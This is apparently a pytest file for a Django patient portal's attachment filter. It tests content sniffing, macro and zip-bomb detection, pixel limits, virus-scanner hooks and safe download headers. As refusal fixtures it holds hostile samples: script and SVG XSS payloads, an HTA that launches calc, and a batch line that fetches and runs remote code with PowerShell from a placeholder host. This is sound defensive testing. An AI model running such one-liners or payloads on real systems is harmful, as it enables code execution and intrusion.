"""Attachments: decided by their bytes, limited, refused one by one with the reason, served safely.

Paula attaches files to a message to Team Blue; Dr. Diaz downloads them.
"""

from __future__ import annotations

import io
import socket
import struct
import threading
import uuid
import zipfile
from collections.abc import Callable, Iterator
from datetime import timedelta
from typing import Any

import pytest
from django.test import Client
from django.utils import timezone

from portal.accounts.models import User
from portal.audit.models import AuditEvent
from portal.core.acting import Actor
from portal.messaging import actions, attachments
from portal.messaging.attachments import Upload, screen, sniff
from portal.messaging.models import Attachment, Draft, Message
from portal.messaging.tests import office
from portal.messaging.tests.helpers import PDF, PNG_1x1, patient_writes

pytestmark = pytest.mark.django_db


def jpeg(width: int, height: int) -> bytes:
    app0 = b"\xff\xe0" + struct.pack(">H", 16) + b"JFIF\0\x01\x01\0\0\x01\0\x01\0\0"
    sof = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, height, width, 1) + b"\x01\x11\x00"
    return b"\xff\xd8" + app0 + sof + b"\xff\xd9"


def png(width: int, height: int) -> bytes:
    return PNG_1x1[:16] + struct.pack(">II", width, height) + PNG_1x1[24:]


KINDS = {
    "PDF": (PDF, attachments.PDF),
    "JPEG": (jpeg(640, 480), attachments.JPEG),
    "PNG": (PNG_1x1, attachments.PNG),
    "GIF": (b"GIF89a\x01\x00\x01\x00\x00\x00\x00;", attachments.GIF),
    "TXT": ("Plain words, accents é".encode(), attachments.TEXT),
    "RTF": (b"{\\rtf1\\ansi hello}", attachments.RTF),
    "DOC": (office.word_97(), attachments.DOC),
    "XLS": (office.excel_97(), attachments.XLS),
    "DOCX": (office.docx(), attachments.DOCX),
    "XLSX": (office.xlsx(), attachments.XLSX),
}


@pytest.mark.parametrize("kind", list(KINDS))
def test_each_allowed_kind_is_known_by_its_bytes(kind: str) -> None:
    """PDF, JPEG, PNG, GIF, TXT, RTF, DOC, DOCX, XLS and XLSX are recognized from content alone."""
    content, expected = KINDS[kind]
    assert sniff(content) == expected


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("invoice.pdf", b"MZ\x90\x00 windows program"),
        ("photo.png", b"\x7fELF\x02\x01\x01"),
        ("notes.txt", b"binary\x00with nul"),
        ("broken.docx", b"PK\x03\x04broken"),
        ("page.html", b"\xff\xfe<\x00h\x00"),
    ],
)
def test_a_false_name_does_not_get_a_file_in(name: str, content: bytes) -> None:
    """A program named .pdf or .png, a binary .txt, or a broken archive is refused by content."""
    accepted, refused = screen([Upload(name, content)], kept=[])
    assert accepted == [] and refused[0].name == name and "cannot be sent" in refused[0].reason


VBA_RELATIONSHIP = (
    '<Relationships><Relationship Id="r1" Target="stuff.bin" '
    'Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject"/></Relationships>'
)
MACRO_FILES = {
    "Word 97 with a Macros storage": office.word_97(macros=True),
    "Excel 97 with _VBA_PROJECT_CUR": office.excel_97(macros=True),
    "DOCX with vbaProject.bin": office.docx(extra={"word/vbaProject.bin": "macro"}),
    "DOCM declared macro-enabled": office.office_zip(
        "word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml"
    ),
    "DOCX with a renamed VBA part": office.docx(
        extra={"word/_rels/document.xml.rels": VBA_RELATIONSHIP, "word/stuff.bin": "macro"}
    ),
    "XLSX declaring a VBA content type": office.xlsx(
        types='<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>',
        extra={"xl/stuff.bin": "macro"},
    ),
}


@pytest.mark.parametrize("kind", list(MACRO_FILES))
def test_office_files_with_macros_are_refused_however_they_hide_them(kind: str) -> None:
    assert sniff(MACRO_FILES[kind]) is None


def test_a_compound_file_that_is_not_word_or_excel_is_refused() -> None:
    """An installer or Outlook item is a compound file too; "Book" in a stream name is not Excel."""
    assert sniff(office.compound_file({"AddressBook": b"x", "SummaryInformation": b"y"})) is None
    assert sniff(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504 + "Workbook".encode("utf-16-le")) is None


def test_an_office_zip_bomb_is_refused() -> None:
    """A 100 KB DOCX that unpacks to 200 MB is not a letter."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "[Content_Types].xml", zipfile.ZipFile(io.BytesIO(office.docx())).read("[Content_Types].xml")
        )
        archive.writestr("word/document.xml", "<document/>")
        archive.writestr("word/media/padding.bin", b"\0" * (200 * 1024 * 1024))
    assert len(buffer.getvalue()) < 1024 * 1024
    assert sniff(buffer.getvalue()) is None


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("lab-results.html", b"<html><body><script>alert(document.domain)</script></body></html>"),
        ("chart.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
        ("update.hta", b'<script language="VBScript">CreateObject("WScript.Shell").Run "calc"</script>'),
        ("fix.bat", b"@echo off\r\npowershell -c iex(iwr http://example.invalid)\r\n"),
        ("invoice.js", b"WScript.Echo('x')"),
        ("scan.pdf.exe", PDF),
    ],
)
def test_a_file_named_as_a_kind_we_refuse_is_refused_whatever_it_holds(name: str, content: bytes) -> None:
    """Text named .hta runs when a nurse opens it: the name's ending is checked as well as the bytes."""
    accepted, refused = screen([Upload(name, content)], kept=[])
    assert accepted == []
    assert refused[0].name == name
    assert f"names end in .{name.rsplit('.', 1)[1]} cannot be sent" in refused[0].reason
    assert "a text file ends in .txt" in refused[0].reason


@pytest.mark.parametrize(
    ("name", "content", "kept_as"),
    [
        ("notes", b"plain words", "notes.txt"),
        ("Dr. Smith letter", b"plain words", "Dr. Smith letter.txt"),
        ("photo.jpg", PNG_1x1, "photo.png"),
        ("REPORT.PDF", PDF, "REPORT.PDF"),
        ("picture.jpeg", jpeg(10, 10), "picture.jpeg"),
    ],
)
def test_a_file_keeps_a_name_that_ends_as_its_bytes_say(name: str, content: bytes, kept_as: str) -> None:
    accepted, refused = screen([Upload(name, content)], kept=[])
    assert refused == []
    assert [a.name for a in accepted] == [kept_as]


def test_limits_empty_and_duplicates_each_named_with_a_reason(settings: Any) -> None:
    """Five files: the empty one, the duplicate and the fifth are refused by name; the rest accepted."""
    settings.PORTAL_ATTACHMENT_MAX_FILES = 4
    uploads = [
        Upload("a.pdf", PDF),
        Upload("empty.txt", b""),
        Upload("copy.pdf", PDF),
        Upload("b.png", PNG_1x1),
        Upload("c.txt", b"one"),
        Upload("d.txt", b"two"),
        Upload("e.txt", b"three"),
    ]
    accepted, refused = screen(uploads, kept=[])
    assert [u.name for u in accepted] == ["a.pdf", "b.png", "c.txt", "d.txt"]
    reasons = {r.name: r.reason for r in refused}
    assert "empty" in reasons["empty.txt"]
    assert "already attached" in reasons["copy.pdf"]
    assert "up to 4 files" in reasons["e.txt"]


def test_size_limits_come_from_configuration(settings: Any) -> None:
    """Each file and all files together are held to PORTAL_ATTACHMENT_MAX_BYTES and _MAX_TOTAL_BYTES."""
    settings.PORTAL_ATTACHMENT_MAX_BYTES = 100
    settings.PORTAL_ATTACHMENT_MAX_TOTAL_BYTES = 150
    accepted, refused = screen(
        [Upload("big.txt", b"x" * 101), Upload("ok.txt", b"y" * 100), Upload("over.txt", b"z" * 60)], kept=[]
    )
    assert [u.name for u in accepted] == ["ok.txt"]
    assert "larger than" in refused[0].reason and refused[0].name == "big.txt"
    assert "together" in refused[1].reason and refused[1].name == "over.txt"


def test_pictures_over_the_pixel_limit_are_refused(settings: Any) -> None:
    settings.PORTAL_ATTACHMENT_MAX_PIXELS = 1_000_000
    accepted, refused = screen(
        [Upload("huge.png", png(5000, 5000)), Upload("fine.jpg", jpeg(800, 600))], kept=[]
    )
    assert [u.name for u in accepted] == ["fine.jpg"]
    assert refused[0].name == "huge.png" and "too many pixels" in refused[0].reason


def gif(screen: tuple[int, int], frames: list[tuple[int, int]]) -> bytes:
    """A GIF89a with a global colour table, a comment extension and the given frames."""
    out = b"GIF89a" + struct.pack("<HHBBB", *screen, 0x80, 0, 0) + b"\0\0\0\xff\xff\xff"
    out += b"\x21\xfe\x05hello\x00"
    for width, height in frames:
        out += b"\x2c" + struct.pack("<HHHHB", 0, 0, width, height, 0) + b"\x02\x02\x44\x01\x00"
    return out + b"\x3b"


def test_a_gif_is_measured_by_its_frames_not_only_its_screen(settings: Any) -> None:
    """A 1x1 screen holding a 60,000 x 60,000 frame, or 500 frames of 100 x 100, is too big."""
    settings.PORTAL_ATTACHMENT_MAX_PIXELS = 1_000_000
    files = [
        Upload("tiny-screen.gif", gif((1, 1), [(60000, 60000)])),
        Upload("many-frames.gif", gif((100, 100), [(100, 100)] * 500)),
        Upload("truncated.gif", gif((10, 10), [(10, 10)])[:-12]),
        Upload("fine.gif", gif((300, 200), [(300, 200)] * 3)),
    ]
    accepted, refused = screen(files, kept=[])
    assert [u.name for u in accepted] == ["fine.gif"]
    assert [r.name for r in refused] == ["tiny-screen.gif", "many-frames.gif", "truncated.gif"]
    assert all("too many pixels" in r.reason for r in refused)


def flag_eicar(content: bytes) -> str | None:
    """A scanner for tests: flags the EICAR test string, as ClamAV does."""
    return (
        "the virus scanner flagged this file." if b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE" in content else None
    )


EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def test_the_scan_hook_blocks_a_flagged_file(settings: Any) -> None:
    settings.PORTAL_VIRUS_SCANNER = "portal.messaging.tests.test_attachments.flag_eicar"
    accepted, refused = screen([Upload("eicar.txt", EICAR), Upload("fine.txt", b"fine")], kept=[])
    assert [u.name for u in accepted] == ["fine.txt"]
    assert refused[0].name == "eicar.txt" and "virus scanner" in refused[0].reason


@pytest.fixture
def clamd_stub() -> Iterator[str]:
    """A local server speaking clamd's INSTREAM protocol (clamd is not installed here)."""
    server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    server.bind(("127.0.0.1", 0))
    server.listen()

    def serve() -> None:
        while True:
            try:
                connection, _ = server.accept()
            except OSError:
                return
            with connection:
                data = b""
                while not data.endswith(b"\0\0\0\0") or len(data) < 14:
                    chunk = connection.recv(65536)
                    if not chunk:
                        break
                    data += chunk
                assert data.startswith(b"zINSTREAM\0")
                found = b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE" in data
                connection.sendall(b"stream: Eicar-Signature FOUND\0" if found else b"stream: OK\0")

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield f"127.0.0.1:{server.getsockname()[1]}"
    server.close()


def test_clamd_hook_speaks_instream(settings: Any, clamd_stub: str) -> None:
    """With PORTAL_CLAMD_ADDRESS set, files go to clamd; FOUND blocks, OK passes."""
    settings.PORTAL_CLAMD_ADDRESS = clamd_stub
    accepted, refused = screen([Upload("eicar.txt", EICAR), Upload("fine.txt", b"fine")], kept=[])
    assert [u.name for u in accepted] == ["fine.txt"] and refused[0].name == "eicar.txt"


def test_clamd_unreachable_fails_closed(settings: Any) -> None:
    """If the configured scanner cannot be reached the file is refused, saying to try again."""
    settings.PORTAL_CLAMD_ADDRESS = "127.0.0.1:1"
    accepted, refused = screen([Upload("fine.txt", b"fine")], kept=[])
    assert accepted == [] and "try again" in refused[0].reason.lower()


def test_refusal_on_the_page_names_the_file_and_keeps_the_rest(
    world: dict[str, Any], signed_in: Callable[[User], Client], paula: User
) -> None:
    """One bad file among good ones: the page names it with the reason, keeps the text and
    the accepted file on the draft, and sends nothing until Paula sends again."""
    client = signed_in(paula)
    token = str(uuid.uuid4())
    response = client.post(
        "/messages/new/",
        {
            "send_token": token,
            "care_team": world["blue"].pk,
            "category": "general",
            "subject": "Results",
            "body": "See attached",
            "action": "send",
            "attachments": [
                _file("good.pdf", PDF),
                _file("virus.exe", b"MZ\x90\x00program"),
            ],
        },
    )
    assert response.status_code == 400
    html = response.content.decode()
    assert "virus.exe" in html and "cannot be sent" in html
    assert "See attached" in html and 'value="Results"' in html and "good.pdf" in html
    assert not Message.objects.exists()
    draft = Draft.objects.get()
    assert draft.attachments.count() == 1
    sent = client.post(
        "/messages/new/",
        {
            "send_token": token,
            "care_team": world["blue"].pk,
            "category": "general",
            "subject": "Results",
            "body": "See attached",
            "action": "send",
        },
    )
    assert sent.status_code == 302
    assert Message.objects.get().attachments.count() == 1


def _file(name: str, content: bytes) -> Any:
    from django.core.files.uploadedfile import SimpleUploadedFile

    return SimpleUploadedFile(name, content, content_type="application/pdf")


def test_a_file_over_the_limit_is_refused_by_name_on_the_page_without_being_read_whole(
    world: dict[str, Any], signed_in: Callable[[User], Client], paula: User, settings: Any
) -> None:
    """A 7 MB scan beside a small letter: the page names the scan and keeps the letter."""
    settings.PORTAL_ATTACHMENT_MAX_BYTES = 6 * 1024 * 1024
    big = PDF + b"\0" * (7 * 1024 * 1024)
    response = signed_in(paula).post(
        "/messages/new/",
        {
            "send_token": str(uuid.uuid4()),
            "care_team": world["blue"].pk,
            "category": "general",
            "subject": "Scans",
            "body": "Two files",
            "action": "send",
            "attachments": [_file("scan.pdf", big), _file("letter.pdf", PDF)],
        },
    )
    assert response.status_code == 400
    html = response.content.decode()
    assert "scan.pdf" in html and "larger than 6 MB" in html
    assert "letter.pdf" in html and "Two files" in html
    assert [a.size for a in Draft.objects.get().attachments.all()] == [len(PDF)]


def test_download_is_an_attachment_with_safe_headers(
    world: dict[str, Any], signed_in: Callable[[User], Client], paula: User, dr_diaz: User
) -> None:
    """Dr. Diaz downloads Paula's file: attachment disposition with an RFC 6266 name, nosniff,
    the sniffed type, the exact bytes; the download is audited by ids."""
    message = patient_writes(paula, world["blue"], files=[Upload('résumé "lab".pdf', PDF)])
    attachment = message.attachments.get()
    response = signed_in(dr_diaz).get(f"/messages/attachments/{attachment.pk}/")
    assert response.status_code == 200
    assert response.content == PDF
    assert response["Content-Type"] == "application/pdf"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Disposition"] == (
        "attachment; filename=\"r_sum_ _lab_.pdf\"; filename*=UTF-8''r%C3%A9sum%C3%A9%20%22lab%22.pdf"
    )
    event = AuditEvent.objects.get(action="messaging.attachment.downloaded")
    assert event.object_id == str(attachment.pk) and event.actor_id == dr_diaz.pk


def test_a_failed_send_keeps_the_draft_and_its_files(world: dict[str, Any], paula: User) -> None:
    """When Send is refused (no message), the draft and its attachment are still there."""
    by = Actor(paula)
    draft = actions.check_save_draft(
        by=by,
        send_token=uuid.uuid4(),
        care_team_id=world["blue"].pk,
        thread_id=None,
        category="general",
        subject="",
        body="b",
    )
    actions.check_attach_files(by=by, draft_id=draft.pk, uploads=[Upload("a.pdf", PDF)])
    with pytest.raises(actions.Refused):
        actions.check_send_draft(by=by, draft_id=draft.pk)
    assert Attachment.objects.get().draft_id == draft.pk


def test_a_refused_file_in_a_reply_keeps_the_accepted_ones(
    world: dict[str, Any], signed_in: Callable[[User], Client], paula: User
) -> None:
    """Paula replies in her thread with a good PDF and a program: the program is named with its
    reason, her text stays, the PDF is listed on her draft with a Remove button; Send again sends it."""
    thread = patient_writes(paula, world["blue"]).thread
    client = signed_in(paula)
    token = str(uuid.uuid4())
    response = client.post(
        f"/messages/threads/{thread.pk}/reply/",
        {
            "send_token": token,
            "body": "Here is the report",
            "attachments": [_file("report.pdf", PDF), _file("virus.exe", b"MZ\x90\x00program")],
        },
    )
    assert response.status_code == 400
    html = response.content.decode()
    assert "<strong>virus.exe</strong>: this kind of file cannot be sent" in html
    assert "Here is the report" in html and "report.pdf" in html
    kept = Attachment.objects.get(draft__send_token=token)
    assert f'action="/messages/attachments/{kept.pk}/remove/"' in html and f'form="remove-{kept.pk}"' in html
    assert f'value="{token}"' in html  # the same form: sending again uses the same draft
    assert thread.messages.count() == 1
    sent = client.post(
        f"/messages/threads/{thread.pk}/reply/", {"send_token": token, "body": "Here is the report"}
    )
    assert sent.status_code == 302
    assert thread.messages.order_by("sent_at", "id").last().attachments.get().pk == kept.pk  # type: ignore[union-attr]


def test_after_a_refusal_the_page_lists_the_files_of_the_form_just_sent(
    world: dict[str, Any], signed_in: Callable[[User], Client], paula: User
) -> None:
    """Another reply draft in the same thread does not take the place of the one just posted."""
    thread = patient_writes(paula, world["blue"]).thread
    older = actions.check_save_draft(
        by=Actor(paula),
        send_token=uuid.uuid4(),
        care_team_id=None,
        thread_id=thread.pk,
        category="",
        subject="",
        body="older",
    )
    actions.check_attach_files(by=Actor(paula), draft_id=older.pk, uploads=[Upload("older.txt", b"older")])
    # Saved by an app server whose clock runs a minute ahead: "latest" would pick the wrong draft.
    Draft.objects.filter(pk=older.pk).update(updated_at=timezone.now() + timedelta(minutes=1))
    client = signed_in(paula)
    response = client.post(
        f"/messages/threads/{thread.pk}/reply/",
        {"send_token": str(uuid.uuid4()), "body": "", "attachments": [_file("newer.pdf", PDF)]},
    )
    html = response.content.decode()
    assert response.status_code == 400 and "newer.pdf" in html and "older.txt" not in html
